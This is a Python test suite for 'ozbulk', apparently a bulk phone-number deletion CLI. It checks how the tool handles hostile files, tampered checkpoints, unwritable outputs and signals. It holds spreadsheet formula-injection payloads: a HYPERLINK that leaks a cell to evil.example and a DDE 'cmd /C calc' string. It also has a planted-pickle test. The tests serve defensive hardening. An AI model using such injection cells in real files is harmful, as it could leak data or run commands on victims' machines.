"""Hostile files and situations, through the real command: what ozbulk reads, writes and says.

Inputs that lie about themselves (a header wider than any sample, a FIFO, a link loop,
``/dev/zero``, a ``.gz`` cut short), a checkpoint folder tampered with (a pickle planted as a
producer state, a lost ``-wal``, a file emptied), outputs that cannot be written, signals at
awkward moments, cells written to trick a spreadsheet. Each test runs ``python -m engine``
against the embedded fake API over loopback (``tests/conftest.py``).
"""

from __future__ import annotations

import csv
import gzip
import os
import pickle
import signal
import stat
from pathlib import Path
from typing import Any

from engine.batcher import accepted_numbers
from engine.checkpoint import Checkpoint, states_dir
from engine.errors import CheckpointError
from engine.pipeline import horizon_step
from tests._helpers import (
    GROUP,
    PlantedPayload,
    delete_args,
    done_ids,
    read_summary,
    run_in_background,
    spawn,
)


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def umask_022() -> None:
    os.umask(0o022)  # the usual default, under which files come out world-readable


def phones(count: int, start: int = 0) -> list[str]:
    return [f"98{index:08d}" for index in range(start, start + count)]


# -- inputs ----------------------------------------------------------------------------------


def test_a_header_wider_than_the_sample_is_read_whole_and_its_phone_column_used(
    run_cli, fake_api, tmp_path
):
    """10,000 columns, phone last (a header past 64 KiB): found by name, by --column, or not."""
    numbers = phones(150)
    header = [f"attribute_{index}" for index in range(9_999)] + ["phone"]
    path = tmp_path / "wide.csv"
    with path.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        for index, number in enumerate(numbers):
            writer.writerow([str(index % 7)] * 9_999 + [number])
    assert len(",".join(header)) > 64 * 1024
    server = fake_api()
    for flags in ({}, {"column": "phone"}):
        server.state.seed(GROUP, [f"+91{number}" for number in numbers])
        result = run_cli(*delete_args(server, path, rate=0, summary_json="s.json",
                                      checkpoint=f"c{len(flags)}.ckpt", **flags))  # fmt: skip
        assert result.returncode == 0, result.output
        assert "column 10000 'phone'" in result.output
        summary = read_summary(tmp_path / "s.json")
        assert summary["accepted"] == summary["deleted"] == 150
    requests = server.stats()["requests"]
    missing = run_cli(*delete_args(server, path, rate=0, column="mobile", checkpoint="c9.ckpt"))
    assert missing.returncode == 2, missing.output
    assert "no column named 'mobile' in the header row" in missing.stderr
    assert "and 9,988 more" in missing.stderr
    assert server.stats()["requests"] == requests  # nothing sent
    assert not (tmp_path / "c9.ckpt").exists()


def test_inputs_that_are_not_files_are_refused_saying_what_they_are(run_cli, fake_api, tmp_path):
    """A FIFO, a link loop, a dangling link, /dev/zero and a folder: exit 2, each named, no send."""
    server = fake_api()
    os.mkfifo(tmp_path / "pipe.csv")
    (tmp_path / "loop.csv").symlink_to(tmp_path / "loop.csv")
    (tmp_path / "dangling.csv").symlink_to(tmp_path / "gone.csv")
    (tmp_path / "folder").mkdir()
    cases = {
        str(tmp_path / "pipe.csv"): "is a named pipe (FIFO)",
        str(tmp_path / "loop.csv"): "is a symbolic link that loops",
        str(tmp_path / "dangling.csv"): "is a symbolic link to",
        "/dev/zero": "is a device, not a file",
        str(tmp_path / "folder"): "is a folder, not a file",
        str(tmp_path / "nope.csv"): "no such file",
    }
    for path, words in cases.items():
        result = run_cli(*delete_args(server, path, rate=0), timeout=30)
        assert result.returncode == 2, result.output
        assert f"{path}: {words}" in result.stderr, result.stderr
        assert "Traceback" not in result.output
    assert "- < PIPE" in run_cli(*delete_args(server, tmp_path / "pipe.csv")).stderr
    assert server.stats()["requests"] == 0


def test_a_gzip_cut_short_after_sending_began_exits_3_saying_what_was_sent(
    run_cli, fake_api, tmp_path
):
    """The read fails part-way: exit 3 (not 2, "nothing was sent"), with what was deleted."""
    numbers = phones(30_000)
    whole = gzip.compress(("phone\n" + "\n".join(numbers) + "\n").encode(), mtime=0)
    path = tmp_path / "cut.csv.gz"
    path.write_bytes(whole[: len(whole) * 2 // 3])
    server = fake_api()
    server.state.seed(GROUP, [f"+91{number}" for number in numbers])
    args = delete_args(server, path, rate=0, checkpoint="c.ckpt", summary_json="s.json")
    result = run_cli(*args)
    assert result.returncode == 3, result.output
    assert "stopped on bad input after sending" in result.output
    assert "read failed" in result.output and "nothing was sent" not in result.output
    summary = read_summary(tmp_path / "s.json")
    deleted = len(numbers) - server.state.remaining(GROUP)
    assert deleted > 0 and summary["deleted"] == deleted
    assert f"{deleted:,} numbers deleted in all" in result.output
    requests = server.stats()["delete_requests"]
    again = run_cli(*args)  # resumable: nothing finished is sent again, and it stops there too
    assert again.returncode == 3, again.output
    assert server.stats()["duplicate_batches"] == 0
    # Every request of the second pass finished a chunk the first had not (those it had read
    # ahead but not sent when the read failed): none went to a chunk already done.
    resumed = read_summary(tmp_path / "s.json")
    sent_again = server.stats()["delete_requests"] - requests
    assert sent_again == resumed["chunks_done"] - summary["chunks_done"]


# -- what ozbulk writes ------------------------------------------------------------------------


def test_bad_output_paths_are_refused_before_anything_is_sent(
    run_cli, fake_api, sample_csv, tmp_path
):
    """--summary-json, --log-file, --report-dir that cannot be written: exit 2 up front."""
    server = fake_api()
    source = sample_csv(500)
    (tmp_path / "a-file").write_text("x")
    cases = [
        ({"summary_json": "missing/s.json"}, "--summary-json missing/s.json: the folder missing"),
        ({"summary_json": "."}, "--summary-json .: is a folder"),
        ({"log_file": "missing/run.log"}, "--log-file missing/run.log: the folder missing"),
        ({"report_dir": "a-file/report"}, "--report-dir a-file/report: a-file is a file"),
    ]
    for flags, words in cases:
        result = run_cli(*delete_args(server, source, rate=0, checkpoint="c.ckpt", **flags))
        assert result.returncode == 2, result.output
        assert words in result.stderr
        assert not (tmp_path / "c.ckpt").exists()
    assert server.stats()["requests"] == 0


def test_reports_and_the_log_are_the_owners_alone_and_cells_cannot_run_as_formulas(
    run_cli, fake_api, tmp_path
):
    """0700 folders, 0600 files; =HYPERLINK… and other formula cells are quoted, phones not."""
    hostile = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+91 98765",  # too short, and a spreadsheet would read it as a formula
        "-2+3",
        "\t=1+1",
        "+919876543210987",  # too long, but a plain number: left readable
    ]
    path = tmp_path / "hostile.csv"
    with path.open("w", newline="") as handle:
        csv.writer(handle).writerows([["phone"], *([cell] for cell in phones(5) + hostile)])
    server = fake_api()
    server.state.seed(GROUP, [f"+91{number}" for number in phones(5)])
    result = run_cli(*delete_args(server, path, rate=0, checkpoint="c.ckpt", log_file="run.log",
                                  summary_json="s.json", report_dir="out/report"),
                     env=None)  # fmt: skip
    assert result.returncode == 0, result.output
    with (tmp_path / "out/report/rejected.csv").open(newline="") as handle:
        raw = [row[2] for row in csv.reader(handle)][1:]
    assert raw == [
        "'" + hostile[0][:80],
        "'" + hostile[1],
        "'+91 98765",
        "'-2+3",
        "'\t=1+1",
        "+919876543210987",
    ]
    dry = run_cli(*delete_args(server, path, dry_run=True, report_dir="dry"))
    assert dry.returncode == 0, dry.output
    assert (tmp_path / "dry/rejected.csv").read_text().count("'=HYPERLINK") == 1
    for folder in ("out", "out/report", "dry"):
        assert mode_of(tmp_path / folder) == 0o700, folder
    for file in ("run.log", "s.json", "c.ckpt", "dry/rejected.csv"):
        assert mode_of(tmp_path / file) == 0o600, file
    for file in (tmp_path / "out/report").iterdir():
        assert mode_of(file) == 0o600, file


# -- the checkpoint folder ---------------------------------------------------------------------


def committed(checkpoint: Path) -> int:
    """Chunks recorded done so far; 0 while the file is being created."""
    try:
        return len(done_ids(checkpoint))
    except CheckpointError:
        return 0


def killed_midway(
    tmp_path: Path, recording_api: Any, rows: int, **flags: Any
) -> tuple[Any, list[str]]:
    """A run killed with SIGKILL once some chunks are committed: (the fake API, its args)."""
    numbers = phones(rows)
    path = tmp_path / "numbers.csv"
    path.write_text("phone\n" + "\n".join(numbers) + "\n")
    api = recording_api(path, latency_ms=20)
    args = delete_args(api.server, path, rate=0, checkpoint="c.ckpt", summary_json="s.json",
                       **flags)  # fmt: skip
    run = spawn(tmp_path, args, preexec_fn=umask_022)
    run.signal_when(
        signal.SIGKILL, lambda: committed(tmp_path / "c.ckpt") >= 30, "30 chunks committed"
    )
    assert run.wait() == -signal.SIGKILL
    return api, args


def test_a_pickle_planted_as_a_producer_state_never_runs_and_files_stay_private(
    run_cli, recording_api, tmp_path
):
    """Every state replaced by a crafted pickle: no payload runs, the resume reads from the
    start and finishes exactly; checkpoint, -wal, -shm, states: 0600 files, 0700 folder."""
    api, args = killed_midway(tmp_path, recording_api, 20_000, concurrency=2,
                              producer_state_rows=1_000, log_file="run.log")  # fmt: skip
    states = states_dir(tmp_path / "c.ckpt")
    planted = sorted(states.glob("state-*.ozstate"))
    assert planted, "the killed run stored producer states"
    for name in ("c.ckpt", "c.ckpt-wal", "c.ckpt-shm", "run.log"):
        assert mode_of(tmp_path / name) == 0o600, name
    assert mode_of(states) == 0o700
    assert {mode_of(path) for path in states.iterdir()} == {0o600}
    marker = tmp_path / "payload-ran"
    for path in planted:
        path.write_bytes(pickle.dumps(PlantedPayload(marker)))
    api.state.run = 1
    resumed = run_cli(*args)
    assert resumed.returncode == 0, resumed.output
    assert not marker.exists()
    assert "cannot use this producer state (not an ozbulk producer state" in resumed.output
    summary = read_summary(tmp_path / "s.json")
    assert summary["complete"] and summary["deleted"] + summary["not_found"] == 20_000
    assert api.state.remaining(GROUP) == 0


def test_a_checkpoint_that_lost_its_wal_is_refused_until_restarted(
    run_cli, recording_api, tmp_path
):
    """kill -9, then the -wal goes missing: exit 2 naming it and --restart; nothing sent."""
    api, args = killed_midway(tmp_path, recording_api, 10_000, concurrency=4)
    Path(tmp_path / "c.ckpt-wal").unlink()
    requests = api.server.stats()["requests"]
    refused = run_cli(*args)
    assert refused.returncode == 2, refused.output
    assert "c.ckpt-wal file, which holds that run's latest commits, is missing" in refused.stderr
    assert "--restart" in refused.stderr
    assert api.server.stats()["requests"] == requests
    # Starting over sends again the chunks the killed run deleted: none of the first numbers is
    # in the group any more, which the not-found guard would stop; here that is deliberate.
    restarted = run_cli(*args, "--restart", "--allow-not-found")
    assert restarted.returncode == 0, restarted.output
    assert api.state.remaining(GROUP) == 0


def test_an_emptied_checkpoint_is_refused_until_restarted(run_cli, fake_api, sample_csv, tmp_path):
    """A finished run's checkpoint cut to 0 bytes: exit 2 (not a silent new run); --restart."""
    server = fake_api()
    source = sample_csv(1_000)
    seeded = server.state.seed(GROUP, accepted_numbers((str(source),)))
    args = delete_args(server, source, rate=0, checkpoint="c.ckpt", summary_json="s.json")
    assert run_cli(*args).returncode == 0
    assert not Path(tmp_path / "c.ckpt-wal").exists()  # a clean close folds the log in
    (tmp_path / "c.ckpt").write_bytes(b"")
    requests = server.stats()["requests"]
    refused = run_cli(*args)
    assert refused.returncode == 2, refused.output
    assert "c.ckpt is empty (0 bytes), but c.ckpt.states/run.json shows" in refused.stderr
    assert server.stats()["requests"] == requests
    restarted = run_cli(*args, "--restart")
    assert restarted.returncode == 0, restarted.output
    assert read_summary(tmp_path / "s.json")["not_found"] == seeded  # deleted by the first run


# -- interruptions ---------------------------------------------------------------------------


def test_sigterm_before_sending_exits_130_saying_nothing_was_sent(fake_api, tmp_path):
    """SIGTERM during start-up or the pre-scan: exit 130 (not 143) and one line saying so."""
    server = fake_api()
    path = tmp_path / "big.csv"
    path.write_text("phone\n" + "\n".join(phones(400_000)) + "\n")
    args = ["delete", str(path), "--group-id", str(GROUP), "--user", "tester", "--base-url",
            server.url, "--no-progress"]  # fmt: skip
    early = spawn(tmp_path, args, name="early")
    # As soon as the handler is in (the kernel lists SIGTERM as caught): still importing.
    early.signal_when(
        signal.SIGTERM, lambda: catches_sigterm(early.process.pid), "the handler", timeout=30
    )
    assert early.wait(30) == 130, early.output
    assert "interrupted (SIGTERM) before anything was sent" in early.output
    prescan = spawn(tmp_path, args, name="prescan")  # no --yes: the plan reads it all first
    prescan.signal_when(
        signal.SIGTERM, lambda: "phone numbers from" in prescan.output, "the pre-scan under way"
    )
    assert prescan.wait(30) == 130, prescan.output
    assert "interrupted (SIGTERM) before anything was sent" in prescan.output
    assert "Traceback" not in early.output + prescan.output
    assert server.stats()["requests"] == 0


def catches_sigterm(pid: int) -> bool:
    """Whether process ``pid`` has a handler for SIGTERM (its SigCgt mask in /proc)."""
    status = Path(f"/proc/{pid}/status").read_text()
    caught = int(next(line for line in status.splitlines() if line.startswith("SigCgt:"))[7:], 16)
    return bool(caught >> (signal.SIGTERM - 1) & 1)


def in_doubt_after_resume(
    run_cli: Any, api: Any, tmp_path: Path, args: list[str]
) -> tuple[int, int]:
    """Resume; return (chunks marked in doubt, chunks the dead run applied without a record)."""
    recorded = done_ids(tmp_path / "c.ckpt")
    reader = Checkpoint.read(tmp_path / "c.ckpt")
    try:
        recorded |= set(reader.ids("failed"))
    finally:
        reader.close()
    applied_unrecorded = set(api.state.chunks_of_run(0)) - recorded
    api.state.run = 1
    resumed = run_cli(*args)
    assert resumed.returncode == 0, resumed.output
    summary = read_summary(tmp_path / "s.json")
    assert summary["complete"] and api.state.remaining(GROUP) == 0
    return summary["in_doubt_chunks"], len(applied_unrecorded)


def test_after_kill_9_only_chunks_that_could_have_been_sent_are_in_doubt(
    run_cli, recording_api, tmp_path
):
    """kill -9 with ~200 chunks: in doubt covers what was applied unrecorded, plus at most the
    queue, the requests in flight and one horizon step; not every unrecorded chunk."""
    concurrency = 16
    api, args = killed_midway(tmp_path, recording_api, 19_700, concurrency=concurrency)
    in_doubt, applied_unrecorded = in_doubt_after_resume(run_cli, api, tmp_path, args)
    assert applied_unrecorded <= in_doubt
    assert in_doubt <= applied_unrecorded + 3 * concurrency + horizon_step(concurrency)
    assert in_doubt < 197 - 30 - 20  # the old horizon step (256) marked all that was left


def test_after_a_double_sigterm_only_the_requests_cut_off_are_in_doubt(
    run_cli, recording_api, tmp_path
):
    """Two SIGTERMs cancel the requests in flight; what is in doubt is then known exactly."""
    numbers = phones(5_000)
    path = tmp_path / "numbers.csv"
    path.write_text("phone\n" + "\n".join(numbers) + "\n")
    api = recording_api(path, latency_ms=500)
    run, args = run_in_background(tmp_path, api, path, concurrency=8)
    run.signal_when(signal.SIGTERM, lambda: api.state.applied_count() >= 10, "10 chunks applied")
    # Two signals sent at once arrive as one: the second waits until the first is heard.
    run.signal_when(
        signal.SIGTERM, lambda: "finishing the requests in flight" in run.output, "the first stop"
    )
    assert run.wait() == 130, run.output
    assert "cancelling the requests in flight" in run.output
    in_doubt, applied_unrecorded = in_doubt_after_resume(run_cli, api, tmp_path, args)
    assert applied_unrecorded <= in_doubt <= 8
